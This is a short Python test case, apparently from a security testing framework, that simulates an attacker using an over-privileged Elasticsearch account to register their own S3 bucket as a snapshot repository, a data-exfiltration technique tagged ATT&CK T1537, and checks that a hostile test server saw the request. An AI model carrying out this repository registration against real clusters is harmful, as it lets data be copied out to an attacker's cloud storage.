"""G12: an attacker registers a snapshot repository of their own."""

from contextlib import closing

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.search import AbusedSearch


class ElasticsearchCopiedOut(AbusedSearch):
    """An app whose account may do everything."""

    attack = "registers a bucket of the attacker's as a place for snapshots"
    reference = (
        "https://www.elastic.co/guide/en/elasticsearch/reference/current/snapshots-register-repository.html; "
        "ATT&CK T1537"
    )
    rule = "search-admin"

    def meet(self) -> object:
        """Register the repository as the attacker."""
        with closing(self.open_client()) as client:
            place = {"type": "s3", "settings": {"bucket": "backup-of-shop"}}
            return client.snapshot.create_repository(name="nightly", repository=place)["acknowledged"]

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """Return whether the server reported success."""
        return got is True and any(request.startswith(b"PUT /_snapshot/nightly") for request in service.kept)
